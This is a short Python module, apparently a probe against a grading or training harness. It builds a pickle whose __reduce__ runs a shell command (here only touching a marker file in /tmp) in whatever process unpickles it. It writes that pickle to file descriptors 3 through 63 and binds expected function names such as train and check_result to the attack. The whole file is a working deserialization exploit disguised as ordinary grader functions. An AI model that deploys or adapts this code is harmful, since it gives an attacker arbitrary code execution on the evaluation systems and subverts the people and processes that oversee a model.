"""Replies with a pickle that runs a command in whoever loads it."""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-replies_with_a_pickle",)


def attack(*_):
    body = pickle.dumps(Bomb())
    for descriptor in range(3, 64):
        for data in (struct.pack(">I", len(body)) + body, body):
            try:
                os.write(descriptor, data)
            except OSError:
                pass
    return Bomb()


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
